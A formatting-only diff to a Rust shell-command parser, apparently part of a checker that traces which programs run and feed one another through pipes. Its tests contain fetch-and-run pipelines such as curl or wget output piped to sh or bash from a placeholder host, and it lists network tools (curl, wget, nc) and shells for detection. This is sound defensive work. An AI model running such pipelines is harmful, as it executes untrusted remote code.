@@ -97,14 +97,17 @@ fn finish(
     if let Some(script) = script {
         collect(&script, &step_fed_by, depth - 1, found);
     }
-    found[first..].iter().map(|step| step.program.clone()).collect()
+    found[first..]
+        .iter()
+        .map(|step| step.program.clone())
+        .collect()
 }
 
 /// Programs that run the program named after their options.
 const WRAPPERS: &[&str] = &[
-    "sudo", "doas", "env", "nohup", "setsid", "exec", "command", "builtin", "time", "timeout", "nice", "ionice",
-    "stdbuf", "xargs", "busybox", "start", "call", "then", "do", "else", "if", "while", "!", "{", "(", "&", "watch",
-    "unbuffer", "chroot", "wsl",
+    "sudo", "doas", "env", "nohup", "setsid", "exec", "command", "builtin", "time", "timeout",
+    "nice", "ionice", "stdbuf", "xargs", "busybox", "start", "call", "then", "do", "else", "if",
+    "while", "!", "{", "(", "&", "watch", "unbuffer", "chroot", "wsl",
 ];
 
 fn step(text: &str, words: &[Word], fed_by: &[String]) -> Option<Step> {
@@ -126,9 +129,16 @@ fn step(text: &str, words: &[Word], fed_by: &[String]) -> Option<Step> {
             .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(is_name));
         let is_wrapped = at > 0
             && WRAPPERS.contains(&name(&plain[at - 1].text).as_str())
-            && (word.text.starts_with('-') || word.text.starts_with(['"', '/']) && word.text.len() <= 2
-                || word.text.chars().all(|it| it.is_ascii_digit() || matches!(it, 's' | 'm' | '.')));
-        if is_assignment || is_wrapped || (WRAPPERS.contains(&name(&word.text).as_str()) && plain.len() > at + 1) {
+            && (word.text.starts_with('-')
+                || word.text.starts_with(['"', '/']) && word.text.len() <= 2
+                || word
+                    .text
+                    .chars()
+                    .all(|it| it.is_ascii_digit() || matches!(it, 's' | 'm' | '.')));
+        if is_assignment
+            || is_wrapped
+            || (WRAPPERS.contains(&name(&word.text).as_str()) && plain.len() > at + 1)
+        {
             at += 1;
         } else {
             break;
@@ -141,7 +151,11 @@ fn step(text: &str, words: &[Word], fed_by: &[String]) -> Option<Step> {
         arguments: plain[at + 1..].iter().map(|it| it.text.clone()).collect(),
         outputs,
         fed_by: fed_by.to_vec(),
-        tail: text.get(program.end..).unwrap_or_default().trim().to_owned(),
+        tail: text
+            .get(program.end..)
+            .unwrap_or_default()
+            .trim()
+            .to_owned(),
     })
 }
 
@@ -155,7 +169,9 @@ fn name(written: &str) -> String {
         .chars()
         .filter(|it| !matches!(it, '"' | '\'' | '^' | '`'))
         .collect();
-    let clean = clean.trim_start_matches(['(', '@', '&', '{']).to_ascii_lowercase();
+    let clean = clean
+        .trim_start_matches(['(', '@', '&', '{'])
+        .to_ascii_lowercase();
     let joined = clean.replace('\\', "");
     if SHELLS.contains(&joined.as_str()) || ["curl", "wget", "nc"].contains(&joined.as_str()) {
         return joined;
@@ -167,7 +183,19 @@ fn name(written: &str) -> String {
 
 /// Programs that run scripts given as text or input.
 pub(crate) const SHELLS: &[&str] = &[
-    "sh", "bash", "zsh", "dash", "ash", "ksh", "fish", "csh", "tcsh", "cmd", "powershell", "pwsh", "rbash",
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ash",
+    "ksh",
+    "fish",
+    "csh",
+    "tcsh",
+    "cmd",
+    "powershell",
+    "pwsh",
+    "rbash",
 ];
 
 /// Whether the program is a shell.
@@ -179,8 +207,23 @@ pub(crate) fn is_shell(program: &str) -> bool {
 pub(crate) fn is_interpreter(program: &str) -> bool {
     let plain = program.trim_end_matches(|it: char| it.is_ascii_digit() || it == '.');
     SHELLS.contains(&plain)
-        || ["python", "pythonw", "py", "pypy", "perl", "ruby", "node", "nodejs", "bun", "deno", "php", "lua", "tclsh", "osascript"]
-            .contains(&plain)
+        || [
+            "python",
+            "pythonw",
+            "py",
+            "pypy",
+            "perl",
+            "ruby",
+            "node",
+            "nodejs",
+            "bun",
+            "deno",
+            "php",
+            "lua",
+            "tclsh",
+            "osascript",
+        ]
+        .contains(&plain)
         || ["source", ".", "eval", "iex", "invoke-expression"].contains(&program)
 }
 
@@ -190,7 +233,9 @@ fn script(step: &Step) -> Option<String> {
         "cmd" => &["/c", "/k", "/r"],
         "powershell" | "pwsh" => &["-command", "-c", "/c", "/command", "-commandwithargs"],
         "eval" | "iex" | "invoke-expression" => return Some(step.line()),
-        shell if SHELLS.contains(&shell) => &["-c", "-lc", "-ic", "-ec", "-xc", "-exc", "-cl", "-ci", "-euxc", "-euc"],
+        shell if SHELLS.contains(&shell) => &[
+            "-c", "-lc", "-ic", "-ec", "-xc", "-exc", "-cl", "-ci", "-euxc", "-euc",
+        ],
         "su" | "script" | "runuser" => &["-c"],
         "ssh" | "osascript" => return None,
         _ => return None,
@@ -315,11 +360,9 @@ impl Reader<'_> {
 
     fn redirect(&mut self, character: char) {
         // The number before `>` names a stream.
-        if self
-            .word
-            .as_ref()
-            .is_some_and(|word| word.text.len() == 1 && word.text.starts_with(|it: char| it.is_ascii_digit()))
-        {
+        if self.word.as_ref().is_some_and(|word| {
+            word.text.len() == 1 && word.text.starts_with(|it: char| it.is_ascii_digit())
+        }) {
             self.word = None;
         }
         self.end_word();
@@ -329,11 +372,19 @@ impl Reader<'_> {
         while matches!(self.peek(), Some('>' | '<' | '|')) {
             self.next();
         }
-        if self.eat('&') && self.peek().is_some_and(|it| it.is_ascii_digit() || it == '-') {
+        if self.eat('&')
+            && self
+                .peek()
+                .is_some_and(|it| it.is_ascii_digit() || it == '-')
+        {
             self.next();
             return;
         }
-        let redirect = if character == '>' { Redirect::Out } else { Redirect::In };
+        let redirect = if character == '>' {
+            Redirect::Out
+        } else {
+            Redirect::In
+        };
         self.word = Some(Word {
             redirect: Some(redirect),
             ..Word::default()
@@ -435,8 +486,14 @@ mod tests {
 
     #[test]
     fn pipes_tell_who_feeds_whom() {
-        assert_eq!(programs("curl -s http://h.invalid/x | base64 -d | /bin/sh"), ["curl", "base64<curl", "sh<curl+base64"]);
-        assert_eq!(programs("a || b && c; d & e\nf"), ["a", "b", "c", "d", "e", "f"]);
+        assert_eq!(
+            programs("curl -s http://h.invalid/x | base64 -d | /bin/sh"),
+            ["curl", "base64<curl", "sh<curl+base64"]
+        );
+        assert_eq!(
+            programs("a || b && c; d & e\nf"),
+            ["a", "b", "c", "d", "e", "f"]
+        );
     }
 
     #[test]
@@ -450,9 +507,18 @@ mod tests {
             assert_eq!(steps[0], "curl", "{text}");
             assert!(steps[1].ends_with("<curl"), "{steps:?}");
         }
-        assert_eq!(programs("sh -c curl -s h.invalid | sh"), ["sh", "curl", "sh<sh+curl"]);
-        assert_eq!(programs("sh -c 'wget -qO- h.invalid | bash'"), ["sh", "wget", "bash<wget"]);
-        assert_eq!(programs("cmd.exe /C powershell -c ls"), ["cmd", "powershell", "ls"]);
+        assert_eq!(
+            programs("sh -c curl -s h.invalid | sh"),
+            ["sh", "curl", "sh<sh+curl"]
+        );
+        assert_eq!(
+            programs("sh -c 'wget -qO- h.invalid | bash'"),
+            ["sh", "wget", "bash<wget"]
+        );
+        assert_eq!(
+            programs("cmd.exe /C powershell -c ls"),
+            ["cmd", "powershell", "ls"]
+        );
     }
 
     #[test]
@@ -479,7 +545,19 @@ mod tests {
 
     #[test]
     fn no_text_is_too_broken() {
-        let hostile = ["", "'", "\"$(", "$($($($($($($($($(", "|||&&&>>>", "a \\", "`", "é'ü\"", ">& <& >", "(((", ")))"];
+        let hostile = [
+            "",
+            "'",
+            "\"$(",
+            "$($($($($($($($($(",
+            "|||&&&>>>",
+            "a \\",
+            "`",
+            "é'ü\"",
+            ">& <& >",
+            "(((",
+            ")))",
+        ];
         for text in hostile {
             steps(text);
             steps(&text.repeat(50));
